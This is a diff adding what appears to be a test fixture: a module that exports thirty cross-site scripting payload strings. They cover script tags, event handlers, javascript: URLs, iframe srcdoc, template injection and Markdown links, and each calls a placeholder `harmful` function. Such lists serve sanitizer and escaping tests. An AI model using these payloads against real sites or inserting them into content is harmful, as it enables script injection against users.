@@ -1,0 +1,36 @@
+/** Thirty ways to run a script from a text, each calling `harmful`. */
+export const payloads = [
+  '<script>harmful(1)</script>',
+  '<ScRiPt data-harm>harmful(2)</sCrIpT >',
+  '<img src="x" onerror="harmful(3)">',
+  '<img src=x onerror=harmful`4`>',
+  '<svg onload=harmful(5)>',
+  '<svg><script>harmful(6)</script></svg>',
+  '"><script>harmful(7)</script>',
+  '\'><img src="x" onerror=harmful(8)>',
+  '</textarea><script>harmful(9)</script>',
+  '</title><script>harmful(10)</script>',
+  '</script><script>harmful(11)</script>',
+  '--><script>harmful(12)</script>',
+  '" onfocus="harmful(13)" autofocus="',
+  "' onmouseover='harmful(14)",
+  'javascript:harmful(15)',
+  '  JaVaScRiPt:harmful(16)//',
+  'data:text/html,<script>harmful(17)</script>',
+  '<iframe src="javascript:harmful(18)"></iframe>',
+  '<iframe srcdoc="<script>parent.harmful(19)</script>">',
+  '<a href="javascript:harmful(20)" data-harm>x</a>',
+  '<base href="https://elsewhere.example/" data-harm>harmful 21',
+  '<object data="javascript:harmful(22)"></object>',
+  '<details open ontoggle=harmful(23)>x</details>',
+  '<form action="javascript:harmful(24)"><button>x',
+  '<style>@import "javascript:harmful(25)"</style>',
+  '<math><mtext></mtext><script>harmful(26)</script></math>',
+  '{{constructor.constructor("harmful(27)")()}}',
+  ['$', '{harmful(28)}<%= harmful(28) %>'].join(''),
+  '\\u003cscript\\u003eharmful(29)\\u003c/script\\u003e',
+  '[x](javascript:harmful(30)) <!--<img src="x" onerror=harmful(30)>-->',
+]
+
+/** For columns with little room. */
+export const shortPayload = '<svg onload=harmful(0)>'
